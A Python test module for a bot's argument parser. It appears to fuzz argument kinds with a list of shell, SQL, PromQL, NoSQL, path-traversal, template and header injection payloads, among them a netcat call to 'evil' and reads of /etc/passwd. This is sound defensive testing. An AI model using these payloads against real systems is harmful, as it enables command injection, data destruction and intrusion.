"""What shells, SQL, PromQL, addresses and paths could mean something by, and what kinds of arguments let through."""

from __future__ import annotations

from hypothesis import strategies as st

from bot.core.argument import KINDS, ArgumentKind
from bot.core.errors import Refused

_ONE_LINE = """
; reboot
&& reboot
| nc evil 1
$(reboot)
`reboot`
${IFS}reboot
%0areboot
> /etc/passwd
-rf
--help
-oProxyCommand=reboot
-e reboot
a -e reboot
a;b
a\tb
*
~root
' OR '1'='1
1; DROP TABLE orders; --
a' UNION SELECT 1 --
\\'; SELECT pg_sleep(9); --
%(x)s
"} or vector(1) or up{a="
\\"} or up
a"}[5m]
{__name__=~".+"}
$symbol
${symbol}
$[*]
$..secret
a[?(@.b)]
{"$where": "1"}
$where
{"$gt": ""}
../../etc/passwd
..
.
/etc/passwd
a/../../b
a/./b
%2e%2e%2f
a%2f..%2fb
a\\..\\b
?admin=1
a?admin=1
a&admin=1
#x
@evil.example
//evil.example/x
http://evil.example/x
evil.example:80
a\u2028b
\u0000
a\u0000b
\u202eab
\uff0e\uff0e/a
\u0661\u0662\u0663
{order}
{0.__class__}
{{7*7}}
"""
PAYLOADS = [*_ONE_LINE.strip("\n").split("\n"), "a\nb", "abcd\n", "\n-rf", "a\r\nX-Evil: 1", "a\n---\nb: c"]


def reads(kind: ArgumentKind, text: str) -> str | None:
    """The value, if it is one of that kind."""
    try:
        return kind.read(text)
    except Refused:
        return None


TEXTS = st.one_of(
    st.sampled_from(PAYLOADS), st.sampled_from(PAYLOADS).map(lambda text: f"a{text}"), st.text(max_size=40)
)
FITTING = ["a/b/c", "BTC/USD", "A.B-C_D", "abc --force -rf", "abc  def", "a..b", "a@b.c", "user@evil.example",
           "1-1-1-1", "deploy-1x", "binance_2", "0417", "9s9s", "a.b.c.d", "AbCd-EfGh_1"]  # fmt: skip
"""Values of some kinds with as much in them as they allow."""
LET_THROUGH = [text for text in dict.fromkeys([*FITTING, "10m", "100", "0.25"])
               if any(reads(kind, text) for kind in KINDS.values())]  # fmt: skip
